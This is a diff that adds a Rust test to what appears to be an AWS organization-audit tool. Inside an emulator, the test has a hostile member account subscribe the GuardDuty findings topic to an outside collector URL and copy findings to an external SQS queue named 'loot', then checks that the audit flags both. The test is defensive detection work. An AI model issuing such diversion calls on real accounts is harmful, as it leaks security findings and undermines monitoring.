@@ -185,3 +185,40 @@ fn report_writes_every_format_from_a_saved_audit_without_calling_aws() {
     let html = std::fs::read_to_string(out.join("orgguard-audit.html")).unwrap();
     assert!(html.contains(r#""names":["#) && html.contains("member-00002"), "the matrix names its accounts");
 }
+
+#[test]
+fn a_member_that_silences_or_copies_its_findings_fails_the_audit() {
+    let emulator = Emulator::start(&["--accounts", "2"]);
+    rollout(&emulator);
+    let hostile = member(2);
+    let topic = format!("arn:aws:sns:eu-west-1:{hostile}:guardduty-finding");
+    // Through the public API, as the member's own script would: a subscription to an outside
+    // host, and a second target on the findings rule pointing at a queue outside the organization.
+    emulator.boto3_as(
+        &hostile,
+        &format!(
+            r#"
+client("sns", "eu-west-1").subscribe(TopicArn="{topic}", Protocol="https", Endpoint="https://collector.example.net/in")
+client("events", "eu-west-1").put_targets(Rule="guardduty-finding", Targets=[{{"Id": "copy", "Arn": "arn:aws:sqs:eu-west-1:999999999999:loot"}}])
+"#
+        ),
+    );
+    let (code, report) = audit(&emulator, &[]);
+    assert_eq!(code, 2, "drift: {report}");
+    let failed: Vec<(&str, &str)> = report["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["verdict"] == "FAIL")
+        .map(|r| (r["control"].as_str().unwrap(), r["actual"].as_str().unwrap()))
+        .collect();
+    assert_eq!(
+        failed,
+        [
+            ("OG.Wiring.Subscriptions", "https:https://collector.example.net/in subscribed"),
+            ("OG.Wiring.Target/guardduty-finding", "also copy -> arn:aws:sqs:eu-west-1:999999999999:loot"),
+        ],
+        "exactly the two ways out, in {hostile}/eu-west-1"
+    );
+    assert!(report["results"].as_array().unwrap().iter().filter(|r| r["verdict"] == "FAIL").all(|r| r["account"] == hostile.as_str() && r["region"] == "eu-west-1"));
+}
